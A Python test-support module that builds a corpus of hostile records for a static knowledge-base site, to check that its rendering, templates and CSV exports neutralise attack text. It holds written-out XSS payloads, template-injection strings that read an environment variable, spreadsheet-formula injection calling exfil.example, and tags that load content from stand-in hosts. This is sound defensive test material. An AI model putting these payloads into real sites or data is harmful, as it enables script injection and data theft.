"""A corpus of hostile records: one of every record kind, with attack text in every free-text field.

The fields come from the JSON Schemas (schema_examples.py); each gets the first payload below that its
schema accepts, so names get a one-line payload without < or >, plain text gets raw HTML, the Markdown
body gets every Markdown trick, and addresses get a URL that tries to break out of its attribute.
The hostile records refer to one another, so their text also lands in links, lists, tables, diagrams,
feeds and exports of other pages. Every payload is valid data: the checker must let it through
(links it rejects, such as `href="&#106;avascript:…"`, are tested in test_hostile_input.py and on
render_body in test_properties.py).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

from cica_kb.load.collections import COLLECTIONS, Collection
from support.schema_examples import FieldPath, Schema, accepts, record_file, record_for

# No page may contact these hosts: only the corpus names them.
HOSTILE_HOSTS = ("pwned.example", "exfil.example")
# Set in the environment of the hostile build; a template evaluated at build time could print it.
CANARY_VARIABLE = "CICA_KB_CANARY"
CANARY = "canary-7d1e5b0c-must-never-appear"

TEMPLATE_TRICKS = (
    "{{ config.site_name }} {% include 'mkdocs.yml' %} {{ ''.__class__.__mro__ }} "
    f"{{{{ cycler.__init__.__globals__.os.environ['{CANARY_VARIABLE}'] }}}} {{{{ macros_info() }}}}"
)

# One line, no < or >: what a name or title may hold. Entities that decode to tags, Markdown and
# template syntax, quotes that could close an attribute, bidi and zero-width characters.
# Each starts with a spreadsheet formula (CSV injection): the CSV downloads must make it inert.
NAME = (
    "=HYPERLINK(\"https://exfil.example/?d=\"&A1,\"Open\") "
    "Hostile & {# &amp;lt;img src=x onerror=alert(1)&amp;gt; &lt;b&gt; \"dq\" 'sq` "
    "\\* _x_ #h | ~~~ [m](https://pwned.example/m) javascript:alert(2) "
    "{{ config.site_name }} {% include 'mkdocs.yml' %} \u202eLTR\u202c zero\u200bwidth " + "W" * 40
)

# Plain text that may hold raw HTML: shown as text, never as markup.
TEXT = "\n\n".join((
    "~~~",
    "Hostile text " + TEMPLATE_TRICKS,
    "<script>window.__pwned = 'script'; alert('script')</script>",
    "<img src=x onerror=\"window.__pwned='img'\"> <svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe> <iframe src=https://pwned.example/frame></iframe>",
    "<svg><a xlink:href=\"&#106;avascript:window.__pwned='entity'\"><text>entity link</text></a></svg> <base href=https://pwned.example/>",
    "<style>@import url(https://pwned.example/import.css); body { background: url(https://exfil.example/bg.png) }</style>",
    "<link rel=stylesheet href=https://pwned.example/link.css> <img src=https://exfil.example/pixel.png>",
    "<meta http-equiv=refresh content=\"0;url=https://pwned.example/refresh\">",
    "~~~",
    "Trailing \u202eRTL\u202c and zero\u200bwidth and a long word " + "x" * 400,
))

# 20 to 300 characters: a practice summary.
SUMMARY = (
    "@SUM(1+1)*cmd|' /C calc'!A0 Hostile summary <script>window.__pwned='summary'</script><img src=x onerror=alert(1)> "
    "<iframe src=https://pwned.example/s></iframe> {{ config.site_name }} {% include 'x' %} &amp;lt;b&amp;gt;"
)

# At most 30 characters: an abbreviation.
TINY = "<svg onload=alert(1)>{{7*7}}"

# An http(s) address (no spaces) that tries to close its attribute and open a tag.
URL = "https://pwned.example/\"><script>window.__pwned='url'</script><img/src=x/onerror=alert(1)>?a='&b={{7*7}}"

# The Markdown body: every trick that could run script, load remote content or break the page.
BODY = "\n".join((
    "# Summary",
    "",
    "## Sources",
    "",
    "### Cite this",
    "",
    "Intro with [a link](https://pwned.example/ok \"a \\\" title\"), [a reference][r], [shadowed][sources] and ![an image](https://exfil.example/img.png).",
    "",
    "[r]: https://pwned.example/ref",
    "[sources]: https://pwned.example/shadow",
    "",
    "<script>window.__pwned = 'body-script'; alert('body')</script>",
    "",
    "<div onclick=\"alert(1)\" style=\"background: url(https://exfil.example/div.png)\">a raw HTML block",
    "",
    "with a blank line inside</div>",
    "",
    "<iframe src=\"https://pwned.example/frame\"></iframe>",
    "<object type=\"text/html\"><embed src=\"https://pwned.example/embed\"></object>",
    "<svg><script>window.__pwned = 'svg'</script><a xlink:href=\"&#106;avascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
    "<style>@import 'https://pwned.example/import.css';</style>",
    "<base href=\"https://pwned.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://pwned.example/refresh\">",
    "<link rel=\"stylesheet\" href=\"https://pwned.example/link.css\">",
    "<form action=\"https://pwned.example/form\"><input name=x autofocus onfocus=\"alert(1)\"></form>",
    "<details open ontoggle=\"alert(1)\"><summary>details</summary></details>",
    "<table><tr><td background=\"https://exfil.example/td.png\">cell</td></tr></table>",
    "",
    TEMPLATE_TRICKS,
    "{% raw %} {% endraw %} {# an unclosed comment",
    "",
    "```unclosed",
    "a fence that never closes",
    "",
    "~~~",
    "another one",
    "",
    "<!-- an unclosed comment",
    "</div></div></article></main>",
    "",
    "A very long word: " + "w" * 5000,
    "",
    "A very long line: " + "word " * 2000,
    "",
    "Bidi \u202eoverride\u202c, zero\u200bwidth and \u2066isolates\u2069.",
))

PAYLOADS: tuple[str, ...] = (BODY, TEXT, SUMMARY, NAME, TINY, URL)

# The key of the hostile record of each collection (practices: <country>/<id>; meetings: <start>-<body>).
KEYS: dict[str, str] = {collection.name: "hostile" for collection in COLLECTIONS} | {
    "states": "zz", "meetings": "2001-02-03-hostile", "practices": "zz/hostile",
}


def key_of(collection: str) -> str:
    return KEYS[collection]


def hostile_text(path: FieldPath, schema: Schema) -> str:
    """The most hostile payload a field's schema accepts."""
    for payload in PAYLOADS:
        if accepts(schema, payload):
            return payload
    raise AssertionError(f"no payload fits the field {path}: add a shorter or simpler one")


def hostile_record(collection: Collection) -> dict[str, Any]:
    """A valid record of the collection with a payload in every free-text field, referring to the other hostile records."""
    return record_for(collection, hostile_text, KEYS)


def write_corpus(data_dir: Path) -> dict[str, str]:
    """Add a hostile record of every kind under data_dir; returns {collection: file written}."""
    written = {}
    for collection in COLLECTIONS:
        record = hostile_record(collection)
        relative = record_file(collection, record, key_of(collection.name))
        path = data_dir / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
        written[collection.name] = f"data/{relative}"
    return written
